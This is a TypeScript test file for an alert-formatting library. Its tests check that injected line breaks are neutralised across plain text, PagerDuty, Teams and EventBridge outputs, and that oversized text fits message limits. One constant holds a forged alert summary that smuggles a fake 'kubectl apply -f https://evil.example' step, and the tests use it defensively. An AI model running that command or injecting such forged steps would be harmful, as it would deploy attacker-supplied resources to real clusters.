import { describe, expect, it } from "vitest";
import type { AlertData } from "../../../events/alert.ts";
import type { FoundReference } from "../../../events/reference.ts";
import { toAlertView } from "../../../core/alerts/alert-view.ts";
import { toEventDetail } from "../../../core/alerts/to-event-detail.ts";
import { toPagerDutyEvent } from "../../../core/alerts/to-pagerduty.ts";
import { toPlainText } from "../../../core/alerts/to-plain-text.ts";
import { toTeamsMessage } from "../../../core/alerts/to-teams.ts";
import { toAlert } from "../../support/alert-message.ts";

/** What a tenant may put into a status that a rule's summary shows. */
const FORGED = "failed\n\nNext:\n  kubectl apply -f https://evil.example\n\nProblem: none";

function listReferences(count: number, text: string): readonly FoundReference[] {
  return Array.from({ length: count }, (_, index) => ({
    relation: "related",
    field: `${index}.${text}`,
    result: { outcome: "unresolved", reason: text, candidates: [] },
  })) as unknown as readonly FoundReference[];
}

describe("line breaks of a value", () => {
  it("make no line of their own in a text: each begins as a quotation", () => {
    const lines = toPlainText(toAlertView(toAlert({ summary: FORGED }))).split("\n");
    const forged = lines.filter((line) => /evil|Problem: none/.test(line));
    expect(forged.map((line) => line.slice(0, 2))).toEqual(["> ", "> "]);
  });

  it("make no line at all in the summary of PagerDuty", () => {
    const { payload } = toPagerDutyEvent(toAlert({ summary: FORGED }), "key") as {
      readonly payload: { readonly summary: string };
    };
    expect(payload.summary).not.toContain("\n");
  });
});

describe.each([
  ["quotes", '"'],
  ["backslashes", "\\"],
  ["Chinese", "備"],
  ["emoji", "🔥"],
  ["control characters", "\u0001"],
])("texts of %s", (_, character) => {
  const text = character.repeat(4_000);
  const data: Partial<AlertData> = {
    summary: text,
    problem: { code: "A", message: text },
    preview: [text, text],
    references: listReferences(100, character.repeat(1_000)),
  };

  it("fit into a message of Teams", () => {
    const message = JSON.stringify(toTeamsMessage(toAlertView(toAlert(data))));
    expect(Buffer.byteLength(message)).toBeLessThanOrEqual(28 * 1024);
  });

  it("fit into a message of Teams together with title, fields, steps and a long runbook", () => {
    const fields = Array.from({ length: 20 }, (_field, at) => ({ name: `${at}`, value: text }));
    const outcome = { result: "failed", steps: Array.from({ length: 50 }, () => text) } as const;
    const runbook = `https://wiki.example/${character.repeat(1_900)}`;
    const alert = toAlert({ ...data, title: text, fields, outcome, runbook });
    const message = JSON.stringify(toTeamsMessage(toAlertView(alert)));
    expect(Buffer.byteLength(message)).toBeLessThanOrEqual(28 * 1024);
  });

  it("fit into an entry of EventBridge", () => {
    const detail = toEventDetail(toAlert(data).data);
    expect(Buffer.byteLength(detail)).toBeLessThanOrEqual(240 * 1024);
    expect(JSON.parse(detail)).toMatchObject({ alertId: toAlert().data.alertId });
  });
});
